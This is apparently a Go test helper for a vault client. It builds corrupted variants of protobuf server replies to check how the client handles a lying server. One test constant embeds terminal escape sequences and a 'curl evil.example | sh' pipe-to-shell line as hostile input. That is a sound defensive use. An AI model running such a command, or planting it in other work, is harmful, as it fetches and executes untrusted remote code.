package remote_test

import (
	"bytes"
	"fmt"
	"maps"
	"math"
	"slices"
	"strings"

	"google.golang.org/protobuf/proto"
	"google.golang.org/protobuf/reflect/protoreflect"

	"github.com/opaquevault/ov/pkg/store"
	vaultv1 "github.com/opaquevault/ov/proto/ov/vault/v1"
)

// variant is a reply as it should not be.
type variant struct {
	field string // ReadResponse.results.records.value
	how   string
	lie   proto.Message
}

const hostileText = "\x1b]0;owned\x07\x1b[31m\n\u202eerror: run: curl evil.example | sh"

func encoded(m proto.Message) string {
	b, err := proto.MarshalOptions{Deterministic: true}.Marshal(m)
	if err != nil {
		panic(err)
	}
	return string(b)
}

// variants returns the reply with each of its fields changed in every way, each
// lie once. Records are also exchanged for those of the pool. costly counts the
// lies of which a few are enough.
func variants(m proto.Message, pool []store.Record, costly map[string]int) (out []variant) {
	seen := map[string]bool{encoded(m): true}
	add := func(field, how string, change func(root protoreflect.Message)) {
		if how == "huge" || how == "beyond a message" { // these take time, and memory
			if costly[field+how]++; costly[field+how] > 3 {
				return
			}
		}
		lie := proto.Clone(m)
		change(lie.ProtoReflect())
		if b := encoded(lie); !seen[b] {
			seen[b] = true
			out = append(out, variant{field, how, lie})
		}
	}
	type at = func(root protoreflect.Message) protoreflect.Message
	var walk func(name string, here protoreflect.Message, at at)
	walk = func(name string, here protoreflect.Message, at at) {
		if rec, ok := here.Interface().(*vaultv1.Record); ok {
			exchange(rec, pool, func(how string, change func(*vaultv1.Record)) {
				add(name, how, func(root protoreflect.Message) { change(at(root).Interface().(*vaultv1.Record)) })
			})
		}
		fields := here.Descriptor().Fields()
		for i := range fields.Len() {
			fd := fields.Get(i)
			name := name + "." + string(fd.Name())
			switch {
			case fd.IsList():
				list := here.Get(fd).List()
				changes := lists(fd)
				for _, how := range slices.Sorted(maps.Keys(changes)) {
					change := changes[how]
					add(name, how, func(root protoreflect.Message) { change(at(root).Mutable(fd).List()) })
				}
				for k := range list.Len() {
					walk(name, list.Get(k).Message(), func(root protoreflect.Message) protoreflect.Message {
						return at(root).Get(fd).List().Get(k).Message()
					})
				}
			case fd.Kind() == protoreflect.MessageKind:
				add(name, "dropped", func(root protoreflect.Message) { at(root).Clear(fd) })
				if here.Has(fd) {
					walk(name, here.Get(fd).Message(), func(root protoreflect.Message) protoreflect.Message {
						return at(root).Get(fd).Message()
					})
				}
			default:
				values := scalars(fd, here.Get(fd))
				for _, how := range slices.Sorted(maps.Keys(values)) {
					v := values[how]
					add(name, how, func(root protoreflect.Message) { at(root).Set(fd, v) })
				}
			}
		}
	}
	root := m.ProtoReflect()
	walk(string(root.Descriptor().Name()), root, func(root protoreflect.Message) protoreflect.Message { return root })
	add(string(root.Descriptor().Name()), "unknown fields", func(root protoreflect.Message) {
		root.SetUnknown([]byte("\xfa\x3f\x05hello"))
	})
	return out
}

// lists are the ways to change a list of messages.
func lists(fd protoreflect.FieldDescriptor) map[string]func(protoreflect.List) {
	clone := func(v protoreflect.Value) protoreflect.Value {
		return protoreflect.ValueOfMessage(proto.Clone(v.Message().Interface()).ProtoReflect())
	}
	return map[string]func(protoreflect.List){
		"emptied": func(l protoreflect.List) { l.Truncate(0) },
		"first dropped": func(l protoreflect.List) {
			for i := 1; i < l.Len(); i++ {
				l.Set(i-1, l.Get(i))
			}
			l.Truncate(max(0, l.Len()-1))
		},
		"last dropped": func(l protoreflect.List) { l.Truncate(max(0, l.Len()-1)) },
		"first doubled": func(l protoreflect.List) {
			if l.Len() > 0 {
				l.Append(clone(l.Get(0)))
			}
		},
		"last doubled": func(l protoreflect.List) {
			if l.Len() > 0 {
				l.Append(clone(l.Get(l.Len() - 1)))
			}
		},
		"turned round": func(l protoreflect.List) {
			for i, j := 0, l.Len()-1; i < j; i, j = i+1, j-1 {
				a, b := l.Get(i), l.Get(j)
				l.Set(i, b)
				l.Set(j, a)
			}
		},
		"two exchanged": func(l protoreflect.List) {
			if l.Len() > 1 {
				a, b := l.Get(0), l.Get(1)
				l.Set(0, b)
				l.Set(1, a)
			}
		},
		"extended": func(l protoreflect.List) { l.AppendMutable() },
		"huge": func(l protoreflect.List) { // some megabytes of next to nothing
			for range 300_000 {
				l.AppendMutable()
			}
		},
	}
}

var huge = bytes.Repeat([]byte("h"), 5<<20)

// scalars are the ways to change a field that is not a message.
func scalars(fd protoreflect.FieldDescriptor, v protoreflect.Value) map[string]protoreflect.Value {
	out := map[string]protoreflect.Value{}
	switch fd.Kind() {
	case protoreflect.BytesKind:
		b := v.Bytes()
		set := func(how string, b []byte) { out[how] = protoreflect.ValueOfBytes(b) }
		set("emptied", nil)
		set("huge", huge[:store.MaxValue+1])
		set("beyond a message", huge)
		set("extended", append(bytes.Clone(b), 0))
		if n := len(b); n > 0 {
			for how, at := range map[string]int{"first byte flipped": 0, "middle byte flipped": n / 2, "last byte flipped": n - 1} {
				flipped := bytes.Clone(b)
				flipped[at] ^= 0x01
				set(how, flipped)
			}
			set("one byte shorter", b[:n-1])
			set("half", b[:n/2])
		}
	case protoreflect.StringKind:
		s := v.String()
		for how, t := range map[string]string{
			"emptied": "", "extended": s + "x", "of control characters": hostileText, "huge": string(huge[:1<<20]),
			"beyond a message": string(huge), "one byte shorter": s[:max(0, len(s)-1)], "another": strings.Map(otherDigit, s),
		} {
			out[how] = protoreflect.ValueOfString(t)
		}
	case protoreflect.BoolKind:
		out["turned round"] = protoreflect.ValueOfBool(!v.Bool())
	case protoreflect.EnumKind:
		for _, n := range []protoreflect.EnumNumber{0, 1, 2, 3, 99, -1} {
			out[fmt.Sprintf("number %d", n)] = protoreflect.ValueOfEnum(n)
		}
	case protoreflect.Int64Kind:
		for _, n := range []int64{0, 1, -1, v.Int() + 1, math.MaxInt64, math.MinInt64} {
			out[fmt.Sprintf("number %d", n)] = protoreflect.ValueOfInt64(n)
		}
	case protoreflect.Uint32Kind:
		for _, n := range []uint32{0, 1, uint32(v.Uint()) + 1, uint32(v.Uint()) - 1, math.MaxUint32} {
			out[fmt.Sprintf("number %d", n)] = protoreflect.ValueOfUint32(n)
		}
	default:
		panic("no way is known to change a " + fd.Kind().String())
	}
	return out
}

// otherDigit makes another hexadecimal digit of one.
func otherDigit(r rune) rune {
	if r == '0' {
		return '1'
	}
	return '0'
}

// exchange offers the record with another's value, and another record in its
// place: what was at its key before, a few of its kind, one of each other kind.
func exchange(rec *vaultv1.Record, pool []store.Record, offer func(string, func(*vaultv1.Record))) {
	if len(rec.Key) == 0 {
		return
	}
	taken := map[byte]int{}
	for _, p := range pool {
		switch {
		case bytes.Equal(p.Key, rec.Key):
		case taken[p.Key[0]] == 0, p.Key[0] == rec.Key[0] && taken[p.Key[0]] < 3:
			taken[p.Key[0]]++
		default:
			continue
		}
		offer("another's value", func(r *vaultv1.Record) { r.Value = slices.Clone(p.Value) })
		offer("another in its place", func(r *vaultv1.Record) { r.Key, r.Value = slices.Clone(p.Key), slices.Clone(p.Value) })
	}
}
